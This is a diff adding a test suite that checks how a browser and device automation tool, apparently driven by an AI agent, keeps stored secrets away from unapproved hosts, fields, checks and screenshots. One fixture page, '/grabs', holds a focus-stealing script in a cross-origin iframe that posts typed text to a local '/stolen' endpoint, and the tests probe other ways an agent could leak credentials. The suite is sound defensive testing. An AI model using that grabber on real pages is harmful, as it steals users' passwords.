@@ -1,0 +1,246 @@
+import type { IncomingMessage } from "node:http";
+import sharp from "sharp";
+import { afterAll, beforeAll, beforeEach, expect, test, vi } from "vitest";
+import type { TestClient } from "../fixtures/client.ts";
+import { serve } from "../fixtures/loopback.ts";
+import { openProduct, type Product } from "../fixtures/product.ts";
+
+vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });
+
+const password = "Bound-secret-31";
+const token = "token-of-all-fields";
+const free = "free-everywhere-77";
+const seen: { host: string; line: string; key: unknown; body: string }[] = [];
+let site: Awaited<ReturnType<typeof serve>>;
+let otherUrl: string;
+let product: Product;
+let client: TestClient;
+
+const form = `<label>User <input id=user></label><label>Password <input type=password id=pw style="font-size:40px"></label>
+  <label>Free <input id=free style="font-size:40px;width:500px" oninput="self.said && (said.textContent = 'said by ' + free.value)"></label>
+  <button onclick="pw.type = 'text'">Show</button>
+  <button onclick="const next = pw.cloneNode(); next.type = 'text'; next.removeAttribute('style'); next.style.fontSize = '40px'; next.value = pw.value; pw.replaceWith(next)">Swap</button>`;
+const pages: Record<string, () => string> = {
+  "/login": () => form,
+  "/said": () => `${form}<p id=said></p>`,
+  "/framed": () => `<p>ours</p><iframe src="${otherUrl}/login" width=800 height=300></iframe>`,
+  "/thief": () => `${form}<iframe src="${otherUrl}/grabs"></iframe>`,
+  "/grabs": () =>
+    `<input id=grab><script>setInterval(() => { grab.focus(); if (grab.value) fetch("/stolen", { method: "POST", body: grab.value }); }, 1)</script>`,
+};
+
+async function bodyOf(request: IncomingMessage): Promise<string> {
+  let body = "";
+  for await (const chunk of request) body += String(chunk);
+  return body;
+}
+
+beforeAll(async () => {
+  site = await serve(async (request, response) => {
+    const { pathname } = new URL(request.url ?? "/", "http://x");
+    const { "x-key": key, host = "" } = request.headers;
+    seen.push({ host, line: `${request.method} ${pathname}`, key, body: await bodyOf(request) });
+    const to = { "/away": "/taken", "/redirect": "/login" }[pathname];
+    if (to !== undefined) return void response.writeHead(307, { location: `${otherUrl}${to}` }).end();
+    const last = seen.at(-1)?.body;
+    if (pathname === "/echo")
+      return void response.writeHead(200, { "content-type": "application/json" }).end(last);
+    const html = pages[pathname]?.();
+    const [status, type] = html ? [200, "text/html"] : [pathname === "/taken" ? 401 : 200, "text/plain"];
+    response.writeHead(status, { "content-type": type }).end(html ? `<!doctype html>${html}` : "said");
+  });
+  otherUrl = site.url.replace("127.0.0.1", "localhost");
+  const hosts = `hosts: ["${new URL(site.url).host}"]`;
+  product = await openProduct(
+    `devices: [{ name: browser, model: web }, { name: box, model: simulated }]
+secrets:
+  BOUND: { env: LABWRIGHT_SECRET_BOUND, ${hosts} }
+  LIKE_BOUND: { env: LABWRIGHT_SECRET_LIKE_BOUND, ${hosts} }
+  TOKEN: { env: LABWRIGHT_SECRET_TOKEN, ${hosts}, fields: any }`,
+    {
+      ...{ BOUND: password, TOKEN: token, FREE: free },
+      ...{ LIKE_BOUND: "x".repeat(password.length), LIKE_FREE: "y".repeat(free.length) },
+    },
+  );
+  client = await product.connect();
+});
+afterAll(async () => {
+  await product?.dispose();
+  await site?.close();
+});
+beforeEach(() => {
+  seen.length = 0;
+});
+
+const act = (...actions: [command: string, params: object][]) =>
+  client.call("execute_device_action", {
+    ...{ device_id: "browser", look: false },
+    actions: actions.map(([command, params]) => ({ command, params })),
+  });
+const open = (url: string) => act(["navigate_to_url", { url }]);
+const checkValue = (selector: string, value: string, match = "exact") =>
+  client.call("verify_device_state", {
+    ...{ device_id: "browser", timeout_ms: 100 },
+    checks: [{ command: "element_value", params: { selector, value, match } }],
+  });
+const refusal = { error: { code: "SECRET_NOT_ALLOWED" } };
+
+test("a secret is typed into password fields of its hosts, and elsewhere is refused with what to do", async () => {
+  await open(`${site.url}/login`);
+  for (const command of ["input_text", "type_text"]) {
+    const typed = await act([command, { selector: "css=#pw", text: "{{secret.BOUND}}" }]);
+    expect(typed.structured).toMatchObject({ status: "passed" });
+    await act(
+      ["input_text", { selector: "css=#pw", text: "" }],
+      ["input_text", { selector: "css=#user", text: "" }],
+    );
+    const refused = await act([command, { selector: "css=#user", text: "{{secret.BOUND}}" }]);
+    expect(refused).toMatchObject(refusal);
+    expect(refused.text).toMatch(/password field.*secrets\.BOUND\.fields/);
+    expect((await act([command, { selector: "css=#user", text: "{{secret.TOKEN}}" }])).error).toBeUndefined();
+  }
+  expect(
+    (await act(["input_text", { selector: "css=#pw", text: "{{secret.BOUND}}" }])).error,
+  ).toBeUndefined();
+  await act(["click_element", { selector: "Show" }]);
+  for (const [selector, name] of [
+    ["css=#pw", "BOUND"],
+    ["css=#user", "TOKEN"],
+  ] as const)
+    expect((await checkValue(selector, `{{secret.${name}}}`)).structured).toMatchObject({ pass: true });
+});
+
+test.each([
+  "/redirect",
+  "/framed",
+])("the frame that holds the field is judged, after %s too", async (path) => {
+  await open(`${site.url}${path}`);
+  for (const command of ["input_text", "type_text"]) {
+    const refused = await act([command, { selector: "css=#pw", text: "{{secret.BOUND}}" }]);
+    expect(refused).toMatchObject(refusal);
+    expect(refused.text).toMatch(/localhost:\d+.*secrets\.BOUND\.hosts/);
+  }
+  await act(["click_element", { selector: "css=#pw" }]);
+  expect(await act(["type_text", { text: "{{secret.BOUND}}" }])).toMatchObject(refusal);
+  expect((await checkValue("css=#pw", "")).structured).toMatchObject({ pass: true });
+  expect((await act(["input_text", { selector: "css=#pw", text: "{{secret.FREE}}" }])).error).toBeUndefined();
+});
+
+test("a frame of another origin that takes the focus gets no key of it", async () => {
+  await open(`${site.url}/thief`);
+  await act(["type_text", { selector: "css=#pw", text: "nothing secret" }]);
+  await vi.waitFor(() => expect(seen.map(({ line }) => line)).toContain("POST /stolen"));
+  await open(`${site.url}/thief`);
+  seen.length = 0;
+  await act(["type_text", { selector: "css=#pw", text: "{{secret.BOUND}}" }]);
+  await act(["input_text", { selector: "css=#pw", text: "{{secret.BOUND}}" }]);
+  await act(["wait", { ms: 50 }]);
+  expect(seen.filter(({ line }) => line.endsWith("/stolen"))).toEqual([]);
+});
+
+test("credentials and requests go to the hosts of their secrets alone, and redirects lose them", async () => {
+  const credentials = (url: string) =>
+    act(["http_credentials", { url, username: "ada", password: "{{secret.BOUND}}" }]);
+  expect(await credentials(otherUrl)).toMatchObject(refusal);
+  expect((await credentials(site.url)).error).toBeUndefined();
+  seen.length = 0;
+  const ask = (url: string) =>
+    client.call("execute_api_request", {
+      ...{ method: "POST", url, headers: { "X-Key": "{{secret.BOUND}}" }, body: { k: "{{secret.TOKEN}}" } },
+    });
+  expect(await ask(`${otherUrl}/take`)).toMatchObject(refusal);
+  expect(seen).toEqual([]);
+  expect((await ask(`${site.url}/take`)).structured).toMatchObject({ status: 200 });
+  expect((await ask(`${site.url}/away`)).structured).toMatchObject({ status: 401 });
+  expect(seen).toMatchObject([
+    { line: "POST /take", key: password, body: JSON.stringify({ k: token }) },
+    { line: "POST /away", key: password },
+    { line: "POST /taken", key: undefined, body: "" },
+  ]);
+});
+
+test("a device without sites takes a secret only into an app that its hosts name", async () => {
+  const typed = await client.call("execute_device_action", {
+    device_id: "box",
+    actions: [{ command: "input_text", params: { selector: "Device name", text: "{{secret.TOKEN}}" } }],
+  });
+  expect(typed).toMatchObject(refusal);
+});
+
+test("checks find out no part of a secret, and what is cut hides its part", async () => {
+  await open(`${site.url}/said`);
+  await act(["input_text", { selector: "css=#free", text: "{{secret.FREE}}" }]);
+  const verdicts = async (command: string, params: object) =>
+    await client.call("verify_device_state", {
+      ...{ device_id: "browser", timeout_ms: 100 },
+      checks: [{ command, params }],
+    });
+  const told = async (match: string, guess: string) =>
+    (await checkValue("css=#free", guess, match)).text.replace(/trace_id: \w+/, "");
+  for (const [match, right, wrong] of [
+    ["contains", free.slice(0, 6), "qqqqqq"],
+    ["words", "everywhere", "nowhereatt"],
+    ["pattern", "^free", "^qqqq"],
+  ] as const) {
+    const [hit, miss] = [await told(match, right), await told(match, wrong)];
+    expect(hit).toBe(miss);
+    expect(hit).toContain("SECRET_NOT_ALLOWED");
+  }
+  expect((await checkValue("css=#free", "{{secret.FREE}}", "same")).structured).toMatchObject({ pass: true });
+  const said = { selector: "css=#said", text: "free-every", match: "contains" };
+  expect((await verdicts("element_text", said)).structured).toMatchObject({ pass: false });
+  expect(
+    (await verdicts("text_visible", { text: "free-every", match: "contains" })).structured,
+  ).toMatchObject({
+    pass: false,
+  });
+  expect((await verdicts("text_visible", { text: "said by", match: "contains" })).structured).toMatchObject({
+    pass: true,
+  });
+  for (const checks of [
+    [{ json_path: "$.k", matches: "^token" }],
+    [{ json_path: "$.k", json_schema: { pattern: "^token" } }],
+    [{ json_path: "$.k", json_schema: { minLength: token.length, maxLength: token.length } }],
+  ])
+    expect((await echo({ k: "{{secret.TOKEN}}" }, checks)).structured).toMatchObject({ passed: false });
+  const equal = await echo({ k: "{{secret.TOKEN}}" }, [{ json_path: "$.k", equals: "{{secret.TOKEN}}" }]);
+  expect(equal.structured).toMatchObject({ passed: true });
+  const cut = await echo({ pad: "x".repeat(185), k: "{{secret.TOKEN}}" }, undefined, 72);
+  expect(cut.structured.more_characters).toBeGreaterThan(0);
+  expect(JSON.stringify(cut.structured)).not.toContain("token-o");
+});
+
+const echo = (body: object, checks?: object[], max_tokens = 800) =>
+  client.call("execute_api_request", {
+    ...{ method: "POST", url: `${site.url}/echo`, body, max_tokens },
+    ...(checks && { checks }),
+  });
+
+test("fields show no secret in pictures, however the page shows them", async () => {
+  const pictureOf = async (first: string, second: string) => {
+    await open(`${site.url}/login`);
+    const done = await act(
+      ["input_text", { selector: "css=#pw", text: `{{secret.${first}}}` }],
+      ["input_text", { selector: "css=#free", text: `{{secret.${second}}}` }],
+      ...["Show", "Swap"].map((selector): [string, object] => ["click_element", { selector }]),
+    );
+    expect(done.structured).toMatchObject({ status: "passed" });
+    const shot = await client.call("capture_screenshot", { device_id: "browser" });
+    const picture = shot.raw.content.find(({ type }) => type === "image");
+    if (picture?.type !== "image") throw new Error("there is no picture");
+    return sharp(Buffer.from(picture.data, "base64")).raw().toBuffer();
+  };
+  // Of the same length, so that only letters could differ.
+  const first = await pictureOf("BOUND", "FREE");
+  expect((await pictureOf("LIKE_BOUND", "LIKE_FREE")).equals(first)).toBe(true);
+  await act(["input_text", { selector: "css=#free", text: "shown" }]);
+  const checks = [
+    ["css=#free", "none"],
+    ["css=#pw", "disc"],
+  ].map(([selector, value]) => ({
+    command: "element_css",
+    params: { selector, property: "-webkit-text-security", value },
+  }));
+  const seen = await client.call("verify_device_state", { device_id: "browser", checks });
+  expect(seen.structured).toMatchObject({ pass: true });
+});
